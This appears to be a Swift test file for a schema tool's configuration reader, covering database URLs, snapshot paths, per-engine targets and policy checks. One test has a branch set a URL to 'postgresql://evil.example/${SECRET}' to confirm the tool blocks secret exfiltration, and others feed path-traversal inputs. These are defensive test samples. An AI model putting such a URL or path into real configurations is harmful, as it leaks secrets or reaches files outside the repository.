import SchemagateModel
import Testing

@testable import schemagate

@Suite("environments: in the configuration")
struct EnvironmentConfigurationTests {
  private func target(_ environments: String, _ variables: [String: String]? = [:]) throws -> TargetDraft {
    let text = "targets: {shop: {migrations: db, environments: \(environments)}}"
    let reader = ConfigurationReader(environment: variables, tools: ["dbmate"])
    return try #require(try reader.read(text).targets.first)
  }

  @Test(
    "are URLs or paths of snapshots",
    arguments: [
      ("postgresql://reader@host/shop", .url("postgresql://reader@host/shop")),
      ("'sqlite:data/shop.db'", .url("sqlite:data/shop.db")), ("'${URL}'", .url("mysql://host/shop")),
      ("'${GONE}'", .unset(variable: "GONE")), ("'postgresql://${GONE}@host/shop'", .unset(variable: "GONE")),
      ("./db/production.sql", .snapshot("db/production.sql")),
    ] as [(String, TargetEnvironment.Source)])
  func kinds(written: String, source: TargetEnvironment.Source) throws {
    let found = try target("{production: \(written)}", ["URL": "mysql://host/shop"]).environments
    #expect(found == [TargetEnvironment(name: "production", source: source)])
  }

  @Test(
    "that lead out of the repository or have no value are errors with their place",
    arguments: ["../x.sql", "/x.sql", "[a]"])
  func errors(written: String) throws {
    #expect {
      try target("{production: \(written)}")
    } throws: { error in
      (error as? ConfigurationError)?.report.at == "schemagate.yml:1"
    }
  }

  @Test("hold as base has them, and a branch's are said without showing them")
  func policy() throws {
    let reader = ConfigurationReader(environment: ["SECRET": "s3cret"], tools: ["dbmate"])
    let base = try reader.read("targets: {shop: {migrations: db, environments: {production: db/p.sql}}}")
    let head = try reader.read(
      "targets: {shop: {migrations: db, environments: {production: 'postgresql://evil.example/${SECRET}'}}}")
    let policy = try Policy(base: base, head: head)
    let target = TargetDefinition(
      name: "shop", engine: .postgresql, migrations: ["db"], tool: ToolSettings(name: "dbmate"),
      environments: head.targets[0].environments)
    #expect(policy.applied(to: target).environments.map(\.source) == [.snapshot("db/p.sql")])
    #expect(policy.differences == ["the branch changes `environments` of the target `shop`; base's hold"])
  }

  @Test("one target on several engines becomes one for each, with shared folders or its own")
  func engines() throws {
    let reader = ConfigurationReader(tools: ["dbmate"])
    let shared = try reader.read("targets: {shop: {engines: [postgresql, sqlite], migrations: db}}").targets
    #expect(shared.map(\.name) == ["shop (postgresql)", "shop (sqlite)"])
    #expect(shared.map(\.engine) == [.postgresql, .sqlite] && shared.allSatisfy { $0.migrations == ["db"] })
    let apart = try reader.read("targets: {shop: {migrations: {postgresql: pg, sqlite: [a, b]}}}").targets
    #expect(apart.map(\.migrations) == [["pg"], ["a", "b"]])
    #expect(apart.map(\.inputs) == [["a/**", "b/**"], ["pg/**"]])
    #expect(Set(apart.map { TargetDefinition.plainName($0.name) }) == ["shop"])
    let one = try reader.read("targets: {shop: {engines: [sqlite], migrations: db}}").targets
    #expect(one.map(\.name) == ["shop"] && one.map(\.engine) == [.sqlite])
    for wrong in ["engines: [sqlite, sqlite]", "engines: [oracle]", "engines: [sqlite], engine: mysql"] {
      #expect(throws: ConfigurationError.self) { try reader.read("targets: {shop: {\(wrong), migrations: db}}") }
    }
    #expect(throws: ConfigurationError.self) {
      try reader.read("targets: {shop: {engines: [mysql], migrations: {sqlite: db}}}")
    }
  }
}
